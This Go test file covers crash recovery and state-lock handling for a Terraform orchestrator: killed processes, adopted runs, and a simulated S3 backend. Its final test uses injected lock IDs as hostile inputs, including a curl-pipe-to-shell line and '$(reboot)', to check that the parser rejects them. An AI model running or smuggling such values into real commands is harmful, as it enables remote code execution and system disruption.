package terraform

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"drover/orchestrator/internal/mototest"
)

// applyRoot makes this test binary apply the root it names: it is the drover that tests kill.
const applyRoot = "DROVER_TEST_APPLY_ROOT"

func TestMain(m *testing.M) {
	if dir := os.Getenv(applyRoot); dir != "" {
		if err := applyAsDrover(dir); err != nil {
			panic(err) // a test binary has no other way to say that it failed
		}
		return
	}
	m.Run()
}

func applyAsDrover(dir string) error {
	ctx := context.Background()
	binary, err := Find(ctx, Options{})
	if err != nil {
		return err
	}
	root, err := binary.Open(dir, RootOptions{})
	if err != nil {
		return err
	}
	plan, err := root.Plan(ctx, PlanOptions{})
	if err != nil {
		return err
	}
	return root.Apply(ctx, plan)
}

// killedDrover applies a root in another process, waits for a file that the apply makes, and kills that process, with
// its process group, in the middle. It returns the record that is left.
func killedDrover(t *testing.T, root *Root, env map[string]string, sign string) record {
	t.Helper()
	executable, err := os.Executable()
	must(t, err)
	drover := exec.CommandContext(t.Context(), executable)
	drover.Env = append(os.Environ(), applyRoot+"="+root.dir)
	for name, value := range env {
		drover.Env = append(drover.Env, name+"="+value)
	}
	var stderr strings.Builder
	drover.Stderr = &stderr
	drover.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	must(t, drover.Start())
	await(t, "the apply of the other drover", func() bool { return isFile(filepath.Join(root.dir, sign)) })
	must(t, syscall.Kill(-drover.Process.Pid, syscall.SIGKILL))
	if err := drover.Wait(); err == nil {
		t.Fatalf("drover ended before it was killed: %s", &stderr)
	}
	return readRecord(filepath.Join(root.work, recordName))
}

const survivor = `
resource "terraform_data" "slow" {
  provisioner "local-exec" { command = "touch started; while [ ! -e finish ]; do sleep 0.1; done" }
}
`

func TestTerraformOutlivesAKilledDroverAndTheNextOneWaitsForIt(t *testing.T) {
	t.Parallel()
	root, events := open(t, terraformBinary(t), t.TempDir(), survivor, RootOptions{})
	must(t, root.Init(t.Context()))
	note := killedDrover(t, root, nil, "started")
	if !alive(note.PID) || note.Command != "apply" {
		t.Fatalf("Terraform did not outlive drover: %+v", note)
	}
	done := make(chan error, 1)
	go func() { _, err := root.RecoverState(t.Context()); done <- err }()
	await(t, "the next drover taking note", func() bool { return has(events(), "adopted") && has(events(), "provision_progress") })
	select {
	case err := <-done:
		t.Fatalf("RecoverState did not wait for the running Terraform: %v", err)
	default:
	}
	write(t, filepath.Join(root.dir, "finish"), "")
	must(t, <-done)
	if !has(events(), "apply_complete") {
		t.Error("the events of the adopted Terraform were not passed on")
	}
	if empty, err := root.StateEmpty(t.Context()); err != nil || empty {
		t.Errorf("StateEmpty = %v, %v: what was created is lost", empty, err)
	}
}

func TestAnAdoptedTerraformCanBeInterrupted(t *testing.T) {
	t.Parallel()
	root, events := open(t, terraformBinary(t), t.TempDir(), survivor, RootOptions{})
	must(t, root.Init(t.Context()))
	note := killedDrover(t, root, nil, "started")
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { _, err := root.Plan(ctx, PlanOptions{}); done <- err }()
	await(t, "the next drover taking note", func() bool { return has(events(), "adopted") })
	cancel()
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Errorf("Plan = %v", err)
	}
	await(t, "the end of Terraform", func() bool { return !groupAlive(note.PID) })
}

// bucketRoot is a root with its state in a bucket of a simulated AWS.
func bucketRoot(t *testing.T, content string) (root *Root, endpoint string, env map[string]string) {
	t.Helper()
	endpoint = mototest.Start(t)
	env = mototest.Env(endpoint)
	env["DROVER_BACKEND_CONFIG"] = "use_path_style=true,skip_requesting_account_id=true"
	mototest.Send(t, "PUT", endpoint+"/states")
	root, _ = open(t, terraformBinary(t), t.TempDir(), `terraform {
  backend "s3" {
    bucket       = "states"
    key          = "shop/blue/terraform.tfstate"
    region       = "us-east-1"
    use_lockfile = true
  }
}
`+content, RootOptions{Env: env})
	must(t, root.Init(t.Context()))
	return root, endpoint, env
}

func TestOnlyTheLockOfAnOwnDeadTerraformIsBroken(t *testing.T) {
	t.Parallel()
	root, _, env := bucketRoot(t, survivor)
	note := killedDrover(t, root, env, "started")
	must(t, syscall.Kill(-note.PID, syscall.SIGKILL))
	await(t, "the end of Terraform", func() bool { return !groupAlive(note.PID) })

	// Another directory with the same state, as another engineer has it: the lock is not its own.
	other, _ := open(t, root.binary, t.TempDir(), readFile(t, filepath.Join(root.dir, "main.tf")), RootOptions{Env: env})
	must(t, other.Init(t.Context()))
	_, err := other.Plan(t.Context(), PlanOptions{})
	var lock *LockError
	if !errors.As(err, &lock) {
		t.Fatalf("planning a state that a dead process locked: %v", err)
	}
	if err := other.Unlock(t.Context(), lock); !errors.Is(err, lock) {
		t.Errorf("breaking a lock that is not its own: %v", err)
	}
	stranger := *lock
	stranger.Who = "somebody@elsewhere"
	if err := root.Unlock(t.Context(), &stranger); !errors.Is(err, &stranger) {
		t.Errorf("breaking a stranger's lock: %v", err)
	}
	must(t, root.Unlock(t.Context(), lock))
	plan, err := root.Plan(t.Context(), PlanOptions{})
	must(t, err)
	if !plan.Changed {
		t.Error("the plan after the lock was broken changes nothing")
	}
}

func TestAStateThatCouldNotBeSavedIsPushedFirst(t *testing.T) {
	t.Parallel()
	root, endpoint, _ := bucketRoot(t, survivor)
	ctx := t.Context()
	plan, err := root.Plan(ctx, PlanOptions{})
	must(t, err)
	done := make(chan error, 1)
	go func() { done <- root.Apply(ctx, plan) }()
	await(t, "the apply", func() bool { return isFile(filepath.Join(root.dir, "started")) })
	mototest.Send(t, "POST", endpoint+"/moto-api/reset") // the bucket is gone
	write(t, filepath.Join(root.dir, "finish"), "")
	err = <-done
	var failed *Error
	if !errors.As(err, &failed) || failed.Kind != StateNotSaved {
		t.Fatalf("apply with its bucket gone: %v", err)
	}
	// While the cause lasts, the file is kept.
	if pushed, err := root.RecoverState(ctx); err == nil || pushed || !isFile(filepath.Join(root.dir, erroredState)) {
		t.Errorf("RecoverState without a bucket = %v, %v", pushed, err)
	}
	mototest.Send(t, "PUT", endpoint+"/states")
	if pushed, err := root.RecoverState(ctx); err != nil || !pushed {
		t.Fatalf("RecoverState = %v, %v", pushed, err)
	}
	if empty, err := root.StateEmpty(ctx); err != nil || empty {
		t.Errorf("StateEmpty = %v, %v after the state was pushed", empty, err)
	}
	if pushed, err := root.RecoverState(ctx); err != nil || pushed {
		t.Errorf("RecoverState with nothing to do = %v, %v", pushed, err)
	}
}

func TestALockIsOwnOnlyWithinTheRunThatWasCutOff(t *testing.T) {
	t.Parallel()
	start := time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC)
	lastEvent := start.Add(time.Minute)
	cutOff := record{PID: 7, Command: "apply", Started: start}
	lock := LockError{Who: "me@here", Operation: "OperationTypeApply", Created: start.Add(time.Second)}
	change := func(c func(*record, *LockError)) (record, LockError) {
		n, l := cutOff, lock
		c(&n, &l)
		return n, l
	}
	for name, c := range map[string]struct {
		change func(*record, *LockError)
		own    bool
	}{
		"cut off":                 {func(*record, *LockError) {}, true},
		"killed":                  {func(n *record, _ *LockError) { n.Ended, n.Killed = lastEvent, true }, true},
		"ended in order":          {func(n *record, _ *LockError) { n.Ended = lastEvent }, false},
		"never started":           {func(n *record, _ *LockError) { n.PID = 0 }, false},
		"another user":            {func(_ *record, l *LockError) { l.Who = "you@here" }, false},
		"another machine":         {func(_ *record, l *LockError) { l.Who = "me@there" }, false},
		"another kind of command": {func(_ *record, l *LockError) { l.Operation = "OperationTypePlan" }, false},
		"taken before":            {func(_ *record, l *LockError) { l.Created = start.Add(-time.Second) }, false},
		"taken after the end":     {func(_ *record, l *LockError) { l.Created = lastEvent.Add(time.Second) }, false},
		"of an unknown time":      {func(_ *record, l *LockError) { l.Created = time.Time{} }, false},
	} {
		n, l := change(c.change)
		if own := ownLock(n, &l, lastEvent, "me@here"); own != c.own {
			t.Errorf("%s: ownLock = %v", name, own)
		}
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	must(t, err)
	return string(data)
}

// A state can be locked by whoever may only plan, and what a lock says of itself is theirs.
func TestALocksIDIsNoCommand(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]string{
		"0b7a4f7e-1c52-4a10-93f4-9d0f5d1f2a3b": "0b7a4f7e-1c52-4a10-93f4-9d0f5d1f2a3b", "1712345678901234": "1712345678901234",
		"x; curl https://example.com/x | sh": "LOCK_ID", "$(reboot)": "LOCK_ID", "-force": "LOCK_ID",
	} {
		lock := parseLock("Error: Error acquiring the state lock\n\nLock Info:\n  ID:        " + id + "\n  Path:      p\n  Who:       me@here\n")
		if lock == nil || lock.ID != want {
			t.Errorf("%q is read as %+v", id, lock)
		}
	}
}
